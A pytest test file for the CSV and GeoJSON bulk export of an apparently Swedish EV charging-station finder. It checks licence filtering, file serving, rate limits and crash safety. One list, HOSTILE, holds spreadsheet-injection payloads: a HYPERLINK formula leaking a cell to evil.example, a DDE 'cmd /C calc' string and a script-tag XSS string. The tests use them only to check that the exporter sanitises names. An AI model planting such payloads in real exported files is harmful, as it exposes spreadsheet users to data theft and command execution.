"""All stations at once: what is in the files and what is not, how they are served, and that nobody ever sees half of one."""

import csv
import gzip
import hashlib
import json
import os
import signal
import subprocess
import sys
import time
from datetime import timedelta
from io import StringIO
from pathlib import Path
from random import Random
from typing import Any

import pytest
from bs4 import BeautifulSoup
from click.testing import Result
from flask import Flask
from flask.testing import FlaskClient

from finder.api import bulk
from finder.api.export import LONGEST, Slot
from finder.api.records import COLUMNS, safe
from tests.api.conftest import TARIFF, TORP, Take, connector, evse, location, stamp

ROOT = Path(__file__).parents[2]
EXPORT = "/api/v1/export"
LINES, TABLE = f"{EXPORT}/stations.geojsonl", f"{EXPORT}/stations.csv"


@pytest.fixture
def database_url(either_database_url: str) -> str:
    return either_database_url


@pytest.fixture
def app(app: Flask, tmp_path: Path) -> Flask:
    app.config["EXPORT"] = tmp_path / "export"
    return app


def run(app: Flask, *options: str, folder: Path | None = None) -> Result:
    with app.app_context():
        return app.test_cli_runner().invoke(args=["export", str(folder or app.config["EXPORT"]), *options])


def written(app: Flask, name: str) -> str:
    return gzip.decompress((app.config["EXPORT"] / name).read_bytes()).decode()


def features(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.split("\n")[:-1]]


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(text, newline=""), strict=True))


def test_a_line_as_of_now_is_what_the_station_answers(client: FlaskClient, take: Take) -> None:
    take(TORP, location("b", 58.4, 11.9))
    response = client.get(LINES)
    assert (response.status_code, response.mimetype) == (200, "application/x-ndjson")
    found = features(response.text)
    assert response.headers["X-Total-Count"] == str(len(found)) == "2"
    for feature in found:
        assert feature == client.get(f"/api/v1/stations/{feature['id']}").json
    assert found[0]["properties"]["status"] == "available"


def test_a_line_of_the_file_says_the_same_without_what_changes_by_the_minute(
    app: Flask, client: FlaskClient, take: Take
) -> None:
    take(TORP)
    assert run(app).exit_code == 0
    (feature,) = features(written(app, "stations.geojsonl.gz"))
    now = client.get(f"/api/v1/stations/{feature['id']}").json
    told, live = feature["properties"], now["properties"]
    assert (told["status"], told["available_count"]) == ("unknown", None)
    assert {each["status"] for each in told["evses"]} == {"UNKNOWN"}
    changing = {"status", "available_count", "connectors", "evses"}
    assert {key: told[key] for key in told.keys() - changing} == {key: live[key] for key in live.keys() - changing}
    assert told["sources"][0]["licence"] == "CC-BY-4.0"


def test_that_a_charging_point_is_only_planned_stays(app: Flask, take: Take) -> None:
    take(location("a", 58.35, 11.81, evse(1, "PLANNED"), evse(2)))
    run(app)
    (feature,) = features(written(app, "stations.geojsonl.gz"))
    assert [each["status"] for each in feature["properties"]["evses"]] == ["PLANNED", "UNKNOWN"]


def test_the_table_has_a_row_for_each_kind_of_plug_with_its_own_price(app: Flask, take: Take) -> None:
    slow = connector("2", standard="IEC_62196_T2", power_type="AC_3_PHASE", max_electric_power=11000, tariff_ids=["T2"])
    dear = TARIFF | {"id": "T2", "elements": [{"price_components": [{"type": "ENERGY", "price": 8, "step_size": 1}]}]}
    take(location("a", 58.35, -11.81, evse(1), evse(2, "CHARGING", connector(), slow)), tariffs=(TARIFF, dear))
    run(app)
    text = written(app, "stations.csv.gz")
    assert not text.startswith("\ufeff")
    assert text.count("\r\n") == text.count("\n") == 3
    found = table(text)
    assert tuple(found[0]) == COLUMNS
    assert [(row["connector"], row["power_kw"], row["count"], row["available"]) for row in found] == [
        ("IEC_62196_T2_COMBO", "300.0", "2", ""),
        ("IEC_62196_T2", "11.0", "1", ""),
    ]
    assert [(row["price_per_kwh_incl_vat"], row["price_reason"]) for row in found] == [
        ("6.125", ""),
        ("", "vat_not_stated"),
    ]
    assert {(row["longitude"], row["partners"], row["licences"], row["station_evse_count"]) for row in found} == {
        ("-11.81", "nordladd", "CC-BY-4.0", "2")
    }
    assert len({row["station_id"] for row in found}) == 1
    assert found[0]["fetched_at"].endswith("Z")


def test_the_table_as_of_now_has_what_is_available(client: FlaskClient, take: Take) -> None:
    take(location("a", 58.35, 11.81, evse(1), evse(2, "CHARGING")), location("b", 58.4, 11.9, evse(3, "UNKNOWN")))
    response = client.get(TABLE)
    assert response.mimetype == "text/csv"
    assert [(row["name"], row["available"]) for row in table(response.text)] == [("Plats a", "1"), ("Plats b", "")]


def test_only_what_a_licence_allows_is_there(app: Flask, client: FlaskClient, take: Take) -> None:
    secret = {"name": "Hemlig plats", "address": "Hemliga gatan 1", "help_phone": "+46 000", "facilities": ["KIOSK"]}
    fresh = evse(1, "AVAILABLE", connector(tariff_ids=["HEMLIG"]), last_updated=stamp(timedelta(minutes=1)))
    take(
        location("x", 58.3501, 11.81, fresh, evse(3), **secret),
        location("y", 59.0, 12.0, evse(9), **secret),
        slug="tystverk",
        licence=None,
        tariffs=(TARIFF | {"id": "HEMLIG"},),
    )
    take(location("a", 58.35, 11.81, evse(1, "CHARGING"), evse(2)))
    run(app)
    told = [
        written(app, "stations.geojsonl.gz"),
        written(app, "stations.csv.gz"),
        client.get(LINES).text,
        client.get(TABLE).text,
        client.get(EXPORT).text,
        (app.config["EXPORT"] / "manifest.json").read_text(),
    ]
    for text in told:
        for word in ("hemlig", "tystverk", "kiosk", "+46 000", "se*nor*e0003", "se*nor*e0009"):
            assert word not in text.casefold(), word
    assert client.head(LINES).headers["X-Total-Count"] == "1"
    (feature,) = features(told[0])
    assert (feature["properties"]["name"], feature["properties"]["evse_count"]) == ("Plats a", 2)


def test_what_is_hidden_is_not_there(app: Flask, client: FlaskClient, take: Take) -> None:
    take(TORP, location("a", 58.4, 11.9))
    take(TORP | {"publish": False, "last_updated": stamp()}, location("a", 58.4, 11.9))
    run(app)
    for text in (written(app, "stations.geojsonl.gz"), client.get(LINES).text):
        assert [each["properties"]["name"] for each in features(text)] == ["Plats a"]
    assert "Torp" not in client.get(TABLE).text


def test_every_station_is_there_once_however_many_pages_of_them_there_are(
    app: Flask, client: FlaskClient, take: Take
) -> None:
    take(*(location(f"{n:04}", 55 + n // 100 * 0.1, 12 + n % 100 * 0.1, evse(n)) for n in range(1_001)))
    run(app)
    ids = [each["id"] for each in features(written(app, "stations.geojsonl.gz"))]
    assert len(ids) == len(set(ids)) == 1_001
    assert [each["id"] for each in features(client.get(LINES).text)] == ids
    assert [row["station_id"] for row in table(written(app, "stations.csv.gz"))] == ids


HOSTILE = [
    '=HYPERLINK("https://evil.example?"&A1,"Torp")',
    "+46|cmd",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "  =1+1",
    "＝1+1",
    "Torp;=1+1",
    'Torp", "=1+1',
    "Torp\r\n=1+1",
    "\t=1+1",
    "<script>alert(1)</script>\u2028</td>",
    "åäö 充电 🔌 \u202eprot",
]


def test_no_name_is_a_formula_or_ends_a_row(app: Flask, take: Take) -> None:
    take(
        *(
            location(f"{n:02}", 58 + n / 10, 11.81, name=name, address=name, operator={"name": name})
            for n, name in enumerate(HOSTILE)
        )
    )
    run(app)
    text = written(app, "stations.csv.gz")
    found = table(text)
    assert len(found) == len(HOSTILE)
    assert {len(row) for row in csv.reader(StringIO(text, newline=""), strict=True)} == {len(COLUMNS)}
    for row in found:
        for part in [part for column in ("name", "address", "operator") for part in row[column].split(";")]:
            assert not part.lstrip().startswith(("=", "+", "-", "@", "＝")), row["name"]
    # Nor where semicolons part the cells, as in a Swedish spreadsheet.
    for cells in csv.reader(StringIO(text, newline=""), delimiter=";"):
        assert not [cell for cell in cells if cell.strip().startswith(("=", "+", "@"))]
    lines = features(written(app, "stations.geojsonl.gz"))
    assert len(lines) == len(HOSTILE)
    assert "<" not in written(app, "stations.geojsonl.gz")


@pytest.mark.parametrize(
    ("text", "right"),
    [
        ("Torp", "Torp"),
        ("Torp - norr", "Torp - norr"),
        ("=1", "'=1"),
        ("a;-1", "a;'-1"),
        ("a\r\nb", "a b"),
        ("", ""),
    ],
)
def test_a_text_is_one_line_and_no_formula(text: str, right: str) -> None:
    assert safe(text) == right


# Files


def test_the_file_is_served_with_its_length_its_age_and_by_ranges(app: Flask, client: FlaskClient, take: Take) -> None:
    take(TORP)
    assert client.get(f"{LINES}.gz", buffered=True).status_code == 404
    assert run(app).output.startswith("stations.geojsonl.gz stations=1 records=1 bytes=")
    whole = (app.config["EXPORT"] / "stations.geojsonl.gz").read_bytes()
    response = client.get(f"{LINES}.gz", buffered=True)
    assert (response.status_code, response.data, response.mimetype) == (200, whole, "application/gzip")
    assert (response.content_length, response.headers["Accept-Ranges"]) == (len(whole), "bytes")
    assert "Content-Encoding" not in response.headers
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    etag, modified = response.headers["ETag"], response.headers["Last-Modified"]
    head = client.head(f"{LINES}.gz", buffered=True)
    assert (head.status_code, head.data, head.content_length) == (200, b"", len(whole))
    assert client.get(f"{LINES}.gz", headers={"If-None-Match": etag}, buffered=True).status_code == 304
    assert client.get(f"{LINES}.gz", headers={"If-Modified-Since": modified}, buffered=True).status_code == 304
    part = client.get(f"{LINES}.gz", headers={"Range": "bytes=10-19", "If-Range": etag}, buffered=True)
    assert (part.status_code, part.data) == (206, whole[10:20])
    assert part.headers["Content-Range"] == f"bytes 10-19/{len(whole)}"
    old = client.get(f"{LINES}.gz", headers={"Range": "bytes=10-19", "If-Range": '"old"'}, buffered=True)
    assert (old.status_code, old.data) == (200, whole)
    beyond = client.get(f"{LINES}.gz", headers={"Range": f"bytes={len(whole)}-"})
    assert (beyond.status_code, beyond.mimetype) == (416, "application/problem+json")
    assert beyond.headers["Content-Range"] == f"bytes */{len(whole)}"


def test_the_list_says_what_the_files_are(app: Flask, client: FlaskClient, take: Take) -> None:
    assert client.get(EXPORT).json["files"] == []
    take(TORP, location("b", 58.4, 11.9))
    run(app)
    listed = client.get(EXPORT).json
    assert [each["url"] for each in listed["now"]] == [f"https://uttag.example{path}" for path in (LINES, TABLE)]
    assert [each["format"] for each in listed["files"]] == ["geojsonl", "csv"]
    for file in listed["files"]:
        body = client.get(file["url"].removeprefix("https://uttag.example"), buffered=True).data
        assert (len(body), hashlib.sha256(body).hexdigest()) == (file["size"], file["sha256"])
        assert (file["stations"], file["countries"]) == (2, ["SE"])
        assert file["sources"] == [{"partner": "nordladd", "name": "Nordladd", "licence": "CC-BY-4.0", "stations": 2}]
    assert [file["records"] for file in listed["files"]] == [2, 3]


@pytest.mark.parametrize("licence", [None, "CC0-1.0"])
def test_a_file_is_served_no_more_when_a_licence_in_it_changes(
    app: Flask, client: FlaskClient, take: Take, licence: str | None
) -> None:
    take(TORP)
    run(app)
    assert client.get(f"{TABLE}.gz", buffered=True).status_code == 200
    take(TORP, licence=licence)
    assert client.get(f"{TABLE}.gz", buffered=True).status_code == 404
    assert client.get(EXPORT).json["files"] == []
    run(app)
    assert client.get(f"{TABLE}.gz", buffered=True).status_code == 200


def test_one_format_leaves_the_other_as_it_was(app: Flask, client: FlaskClient, take: Take) -> None:
    take(TORP)
    run(app)
    before = client.get(EXPORT).json["files"]
    take(TORP, location("b", 58.4, 11.9))
    assert run(app, "--format", "csv").exit_code == 0
    after = client.get(EXPORT).json["files"]
    assert after[0] == before[0]
    assert [file["stations"] for file in after] == [1, 2]


def test_a_file_that_the_manifest_does_not_know_is_not_served(app: Flask, client: FlaskClient, take: Take) -> None:
    take(TORP)
    run(app)
    (app.config["EXPORT"] / "stations.csv.gz").write_bytes(b"something else")
    assert client.get(f"{TABLE}.gz", buffered=True).status_code == 404
    (app.config["EXPORT"] / "manifest.json").write_text("{")
    assert client.get(EXPORT).json["files"] == []


def dataset(page: BeautifulSoup) -> list[dict[str, Any]]:
    found = [json.loads(script.text) for script in page.select('script[type="application/ld+json"]')]
    return [each for each in found if each["@type"] == "Dataset"]


def test_the_page_about_the_data_leads_to_the_files_and_describes_them(
    app: Flask, client: FlaskClient, take: Take
) -> None:
    take(TORP)
    assert not BeautifulSoup(client.get("/sv/om-data/").text, "html.parser").select("#files")
    assert dataset(BeautifulSoup(client.get("/sv/om-data/").text, "html.parser")) == []
    run(app)
    page = BeautifulSoup(client.get("/sv/om-data/").text, "html.parser")
    section = page.select_one("#files")
    assert section is not None
    assert [link["href"] for link in section.select("a")] == [f"{LINES}.gz", f"{TABLE}.gz"]
    (told,) = dataset(page)
    listed = client.get(EXPORT).json["files"]
    assert told["license"] == ["https://creativecommons.org/licenses/by/4.0/"]
    assert told["spatialCoverage"] == [{"@type": "Place", "name": "Sverige"}]
    assert told["dateModified"][:19] == listed[0]["created_at"][:19]
    assert [(each["contentUrl"], each["sha256"]) for each in told["distribution"]] == [
        (file["url"], file["sha256"]) for file in listed
    ]
    for words in (told["description"], *(each["contentSize"] for each in told["distribution"])):
        assert words in section.text
    assert "Från Nordladd, under CC BY 4.0." in section.text
    english = BeautifulSoup(client.get("/en/about-data/").text, "html.parser").select_one("#files")
    assert english is not None
    assert english.text.strip().startswith("Everything in one file")


# On demand


def test_one_reader_at_a_time(client: FlaskClient, take: Take) -> None:
    take(TORP)
    first = client.get(LINES, buffered=False)
    second = client.get(TABLE)
    assert (second.status_code, second.mimetype) == (429, "application/problem+json")
    assert int(second.headers["Retry-After"]) > 0
    assert client.head(LINES).status_code == 200
    assert len(features(first.text)) == 1
    first.close()
    assert client.get(TABLE).status_code == 200


def test_a_reader_who_goes_away_makes_room(client: FlaskClient, take: Take) -> None:
    take(TORP)
    client.get(LINES, buffered=False).close()
    response = client.get(TABLE)
    assert response.status_code == 200


def test_a_reader_who_stands_still_loses_the_place() -> None:
    slot = Slot()
    first = slot.take(1_000.0)
    assert first is not None
    assert slot.take(1_000.0 + LONGEST - 1) is None
    second = slot.take(1_000.0 + LONGEST)
    assert second is not None
    slot.give_back(first)
    assert slot.take(1_000.0 + LONGEST + 1) is None
    slot.give_back(second)
    assert slot.take(1_000.0 + LONGEST + 1) is not None


def test_who_takes_gzip_gets_it(client: FlaskClient, take: Take) -> None:
    take(TORP)
    response = client.get(LINES, headers={"Accept-Encoding": "gzip, br"})
    assert (response.headers["Content-Encoding"], response.headers["Vary"]) == ("gzip", "Accept-Encoding")
    assert features(gzip.decompress(response.data).decode()) == features(client.get(LINES).text)


@pytest.mark.parametrize("path", [EXPORT, LINES, TABLE, f"{LINES}.gz", f"{TABLE}.gz"])
def test_no_parameter_is_taken_and_any_origin_may_ask(client: FlaskClient, path: str) -> None:
    response = client.get(f"{path}?limit=1", buffered=True)
    assert (response.status_code, response.json["parameter"]) == (400, "limit")
    asked = client.options(path, headers={"Origin": "https://other.example"})
    assert asked.headers["Access-Control-Allow-Origin"] == "*"
    assert "Range" in asked.headers["Access-Control-Allow-Headers"]


# When it goes wrong


def test_of_two_exports_at_once_the_second_ends(app: Flask, client: FlaskClient, take: Take) -> None:
    take(TORP)
    run(app)
    before = client.get(EXPORT).json
    with bulk._alone(app.config["EXPORT"]):
        result = run(app)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"Error: {app.config['EXPORT']}: another export is writing there; wait for it"
    ]
    assert client.get(EXPORT).json == before
    assert run(app).exit_code == 0


def test_a_folder_that_cannot_be_written_to_is_one_line(app: Flask, tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    result = run(app, folder=tmp_path / "file" / "below")
    assert result.exit_code == 1
    (line,) = result.stderr.splitlines()
    assert line.endswith("it cannot be written to (Not a directory); the files that were there stay")


@pytest.mark.parametrize("either_database_url", ["sqlite"], indirect=True)
def test_without_room_the_old_files_stay(app: Flask, client: FlaskClient, take: Take, tmp_path: Path) -> None:
    take(TORP)
    run(app)
    before = client.get(EXPORT).json
    limited = f"ulimit -f 0; trap '' XFSZ; exec {sys.executable} -m flask --app {ROOT / 'app.py'} export {app.config['EXPORT']}"
    environ = os.environ | {"FINDER_DATABASE_URL": f"sqlite:///{tmp_path / 'finder.db'}"}
    result = subprocess.run(
        ["bash", "-c", limited], env=environ, cwd=tmp_path, capture_output=True, text=True, check=False
    )
    assert result.returncode == 1, result.stderr
    assert client.get(EXPORT).json == before
    assert client.get(f"{LINES}.gz", buffered=True).status_code == 200


ENDLESS = """
import sys
from app import create_app
from finder.cli import export
app = create_app()
with app.app_context():
    print("ready", flush=True)
    while True:
        app.test_cli_runner().invoke(export, [sys.argv[1]])
"""


@pytest.mark.parametrize("either_database_url", ["sqlite"], indirect=True)
def test_killed_whenever_it_may_be_whole_files_are_served(
    app: Flask, client: FlaskClient, take: Take, tmp_path: Path
) -> None:
    take(*(location(f"{n:02}", 55 + n / 10, 12, evse(n)) for n in range(30)))
    run(app)
    environ = os.environ | {
        "FINDER_DATABASE_URL": f"sqlite:///{tmp_path / 'finder.db'}",
        "PYTHONPATH": str(ROOT),
    }
    chance = Random(4)
    for _ in range(2):
        with subprocess.Popen(
            [sys.executable, "-c", ENDLESS, str(app.config["EXPORT"])],
            env=environ,
            cwd=tmp_path,
            stdout=subprocess.PIPE,
        ) as process:
            assert process.stdout is not None
            assert process.stdout.readline() == b"ready\n"
            until = time.monotonic() + 0.2 + chance.random() * 0.2
            try:
                while time.monotonic() < until:
                    whole(client)
            finally:
                process.send_signal(signal.SIGKILL)
        whole(client)
    assert run(app).exit_code == 0
    assert sorted(os.listdir(app.config["EXPORT"])) == [
        ".lock",
        "manifest.json",
        "stations.csv.gz",
        "stations.geojsonl.gz",
    ]


def whole(client: FlaskClient) -> None:
    assert len(features(gzip.decompress(client.get(f"{LINES}.gz", buffered=True).data).decode())) == 30
    assert len(table(gzip.decompress(client.get(f"{TABLE}.gz", buffered=True).data).decode())) == 30
